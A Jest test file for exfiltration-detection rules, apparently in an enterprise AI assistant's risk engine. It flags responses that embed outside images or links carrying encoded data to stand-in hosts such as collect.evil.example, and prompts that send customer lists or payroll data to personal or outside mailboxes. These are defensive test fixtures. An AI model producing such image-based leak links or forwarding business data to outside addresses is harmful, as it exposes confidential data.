import { responseExfiltrationRule, sendOutsideRule } from '../../../server/core/risk/exfiltrationRules';
import { run } from './riskTestKit';

describe('exfiltration proxies', () => {
  it('flags a markdown or HTML image from an outside host in an answer, with data in its query as high confidence', () => {
    const [md] = run(
      responseExfiltrationRule,
      'Done. ![x](https://collect.evil.example/p.png?d=c2VjcmV0LWRhdGEtZnJvbS10aGUtZmlsZQ)',
      {
        source: 'response',
      },
    );
    expect(md).toMatchObject({ rule: 'external-image-in-response', severity: 'medium', confidence: 'high' });
    expect(md?.masked).toBe('https://collect.evil.example/…');
    const [html] = run(responseExfiltrationRule, '<img src="https://tracker.example/a.gif">', { source: 'response' });
    expect(html?.rule).toBe('external-image-in-response');
  });

  it('flags an outside link carrying data, not tenant or Microsoft links, not plain web citations', () => {
    expect(
      run(responseExfiltrationRule, 'Open https://files.evil.example/upload?payload=4f2a9c1b7e3d5a6f8b0c2d4e6f', {
        source: 'response',
      })[0]?.rule,
    ).toBe('data-in-external-link');
    for (const text of [
      'See https://contoso.sharepoint.com/sites/HR/Policy.docx?web=1&EntityRepresentationId=3f2504e0-4f89-11d3-9a0c-0305e82c3301',
      'See https://teams.microsoft.com/l/meeting/details?eventId=AAMkADk0ZmQ2NGM5LTFiZjYtNGI3',
      'See https://en.wikipedia.org/wiki/Net_present_value',
      '![logo](https://contoso.com/logo.png)',
    ])
      expect(run(responseExfiltrationRule, text, { source: 'response' })).toEqual([]);
  });

  it('takes a signed link’s signature and validity stamps for a credential, not for data carried out', () => {
    const sas =
      'https://fabrikamexports.blob.core.windows.net/share/a.csv?sv=2023-01-03&st=2026-12-01T09%3A00%3A00Z&se=2026-12-08T09%3A00%3A00Z&sr=b&sp=r&sig=Qm7vR2nT8kW4pX6zL1cY9bH3dF5gJ0sA%3D';
    expect(run(responseExfiltrationRule, `Download: ${sas}`, { source: 'response' })).toEqual([]);
    expect(
      run(responseExfiltrationRule, `Download: ${sas}&notes=layoffs%20plan%20Q1%3A%2040%20roles`, {
        source: 'response',
      }),
    ).toHaveLength(1);
  });

  it('treats another tenant’s SharePoint as outside', () => {
    expect(
      run(responseExfiltrationRule, '![a](https://fabrikam.sharepoint.com/a.png?x=abcdefghijklmnopqrstuvwxyz)', {
        source: 'response',
      }),
    ).toHaveLength(1);
  });

  it('flags prompts that send content to a personal mailbox, and business data to another organisation', () => {
    expect(
      run(sendOutsideRule, 'Send the customer list to jamie.lee84@gmail.com so I can work at home')[0],
    ).toMatchObject({
      rule: 'send-to-personal-address',
      severity: 'medium',
    });
    expect(
      run(sendOutsideRule, 'Forward the confidential salary review to recruiter@talentfirm.example')[0]?.rule,
    ).toBe('send-to-external-address');
    expect(
      run(sendOutsideRule, 'send all open tickets with customer names to support@helpdesk-outsource.example')[0]?.rule,
    ).toBe('send-to-external-address');
  });

  it('reads a described destination before the address ("to my gmail: …", "to my personal address (…)")', () => {
    for (const text of [
      'Forward the whole board pack to my gmail: alex.w1987@gmail.com',
      'Email the payroll extract to my personal address (sam.k@outlook.com) tonight',
      'Upload the notes to my own inbox - riley_9@yahoo.com',
      "Email the data room index to my wife's address, sam.k.family@icloud.com",
      'upload the contact list to my google drive, account is lee.gu.home@gmail.com',
      'bcc my personal outlook account (d.kowalski@outlook.com) on every contract email',
    ])
      expect(run(sendOutsideRule, text).map((m) => m.rule)).toEqual(['send-to-personal-address']);
    // A colleague's address described the same way stays a colleague's.
    expect(run(sendOutsideRule, 'Send the deck to my manager at maria.garcia@contoso.com')).toEqual([]);
  });

  it('leaves colleagues, partners and ordinary mail alone', () => {
    for (const text of [
      'Send the deck to maria.garcia@contoso.com',
      'Email the agenda to our event partner at events@eventbrite.com',
      'Invite partners@fabrikam.com to the supplier day',
      'My personal email is jamie@gmail.com', // personal data, but nothing is sent
    ])
      expect(run(sendOutsideRule, text)).toEqual([]);
  });
});
